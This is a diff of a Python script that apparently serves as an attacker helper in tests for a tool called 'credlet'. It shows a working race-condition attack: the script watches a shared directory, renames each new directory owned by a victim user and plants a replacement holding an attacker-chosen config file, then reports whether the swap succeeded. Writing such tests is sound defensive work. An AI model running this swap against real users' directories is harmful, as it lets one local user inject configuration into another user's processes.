@@ -1,9 +1,9 @@
-"""Replaces what another user creates in a directory of this user.
+"""Attacker that replaces directories that another user creates in a directory.
 
-swapper.py DIRECTORY UID CONFIG MARK
+    swapper.py DIRECTORY UID CONFIG MARK
 
-Each new directory is renamed and replaced by another one of the same name, with CONFIG as its `config`, and as that of
-`process-PID` for every process of UID. Then MARK is made.
+Renames each new directory of UID and creates another one of the same name, with CONFIG as its file `config` and as that of
+`process-PID` for every process of UID. Then creates the file MARK. Prints `READY`, then `SWAPPED` or `REFUSED` for each directory.
 """
 
 import os
@@ -31,7 +31,7 @@ while True:
         path = os.path.join(directory, name)
         if name in swapped or name.startswith(".") or os.stat(path).st_uid != uid:
             continue
-        # Whoever made it is about to write into it.
+        # Its owner is about to write into it.
         time.sleep(0.3)
         try:
             os.rename(path, os.path.join(directory, "." + name))
@@ -40,12 +40,12 @@ while True:
             swapped.add(name)
             continue
         swapped.add(name)
-        for place in [path, os.path.join(path, "credlet")]:
-            os.makedirs(place, exist_ok=True)
-            shutil.copy(config, os.path.join(place, "config"))
+        for folder in [path, os.path.join(path, "credlet")]:
+            os.makedirs(folder, exist_ok=True)
+            shutil.copy(config, os.path.join(folder, "config"))
             for process in processes():
-                os.mkdir(os.path.join(place, f"process-{process}"))
-                shutil.copy(config, os.path.join(place, f"process-{process}", "config"))
+                os.mkdir(os.path.join(folder, f"process-{process}"))
+                shutil.copy(config, os.path.join(folder, f"process-{process}", "config"))
         print("SWAPPED", name, flush=True)
         open(mark, "w").close()
     time.sleep(0.05)
